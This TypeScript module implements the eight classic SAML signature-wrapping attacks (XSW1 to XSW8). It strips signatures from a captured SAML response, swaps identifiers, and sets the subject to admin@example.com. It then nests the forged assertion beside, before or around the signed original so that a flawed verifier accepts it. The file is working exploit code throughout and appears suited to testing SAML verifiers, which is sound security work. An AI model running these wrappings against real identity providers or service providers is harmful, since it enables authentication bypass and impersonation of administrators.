/** Signature wrapping: the eight classic ways to put a forged assertion where a careless reader looks for the signed one. */

const signature = /<ds:Signature .*?<\/ds:Signature>/s
const assertion = /<saml:Assertion .*<\/saml:Assertion>/s

/** A copy without signature, with another identifier, about somebody else. */
function forge(xml: string): string {
  return xml
    .replaceAll(new RegExp(signature.source, 'gs'), '')
    .replace(/ ID="[^"]*"/, ' ID="_forged"')
    .replace(/(<saml:NameID>)[^<]*/, '$1admin@example.com')
}

/** A forged response has a forged assertion, whose identifier must be another one too. */
function forgeResponse(xml: string): string {
  return forge(xml).replace(/(<saml:Assertion [^>]*?) ID="[^"]*"/, '$1 ID="_forgedAssertion"')
}

interface Parts {
  /** The signed assertion, its signature, and the same without it. */
  whole: string
  sign: string
  bare: string
  forged: string
}

function partsOf(xml: string): Parts {
  const whole = assertion.exec(xml)?.[0] ?? ''
  const sign = signature.exec(whole)?.[0] ?? ''
  return { whole, sign, bare: whole.replace(sign, ''), forged: forge(whole) }
}

/** Inside an element, after its issuer. */
function insert(element: string, content: string): string {
  return element.replace(/<\/saml:Issuer>/, (end) => end + content)
}

function intoObject(sign: string, content: string): string {
  return sign.replace('</ds:Signature>', () => `<ds:Object>${content}</ds:Object></ds:Signature>`)
}

function replaceAssertion(xml: string, { whole }: Parts, content: string): string {
  return xml.replace(whole, () => content)
}

export interface Wrapping {
  name: string
  signed: 'response' | 'assertion'
  wrap(xml: string): string
}

/** @see "On Breaking SAML", USENIX Security 2012 */
export const wrappings: readonly Wrapping[] = [
  {
    name: 'XSW1: a forged response whose signature holds the signed one',
    signed: 'response',
    wrap: (xml) => {
      const sign = signature.exec(xml)?.[0] ?? ''
      return insert(forgeResponse(xml), intoObject(sign, xml.replace(sign, '')))
    },
  },
  {
    name: 'XSW2: a forged response with the signed one beside the signature',
    signed: 'response',
    wrap: (xml) => {
      const sign = signature.exec(xml)?.[0] ?? ''
      return insert(forgeResponse(xml), xml.replace(sign, '') + sign)
    },
  },
  {
    name: 'XSW3: a forged assertion before the signed one',
    signed: 'assertion',
    wrap: (xml) => replaceAssertion(xml, partsOf(xml), partsOf(xml).forged + partsOf(xml).whole),
  },
  {
    name: 'XSW4: a forged assertion around the signed one',
    signed: 'assertion',
    wrap: (xml) => {
      const { forged, whole } = partsOf(xml)
      return replaceAssertion(
        xml,
        partsOf(xml),
        forged.replace('</saml:Assertion>', () => `${whole}</saml:Assertion>`),
      )
    },
  },
  {
    name: 'XSW5: a forged assertion with the signature, and the original behind it',
    signed: 'assertion',
    wrap: (xml) => {
      const { forged, sign, bare } = partsOf(xml)
      return replaceAssertion(xml, partsOf(xml), insert(forged, sign) + bare)
    },
  },
  {
    name: 'XSW6: a forged assertion whose signature holds the original',
    signed: 'assertion',
    wrap: (xml) => {
      const { forged, sign, bare } = partsOf(xml)
      return replaceAssertion(
        xml,
        partsOf(xml),
        insert(
          forged,
          sign.replace('</ds:Signature>', () => `${bare}</ds:Signature>`),
        ),
      )
    },
  },
  {
    name: 'XSW7: a forged assertion in an extension before the signed one',
    signed: 'assertion',
    wrap: (xml) => {
      const { forged, whole } = partsOf(xml)
      return replaceAssertion(
        xml,
        partsOf(xml),
        `<samlp:Extensions>${forged}</samlp:Extensions>${whole}`,
      )
    },
  },
  {
    name: 'XSW8: a forged assertion whose signature holds the original in an object',
    signed: 'assertion',
    wrap: (xml) => {
      const { forged, sign, bare } = partsOf(xml)
      return replaceAssertion(xml, partsOf(xml), insert(forged, intoObject(sign, bare)))
    },
  },
]
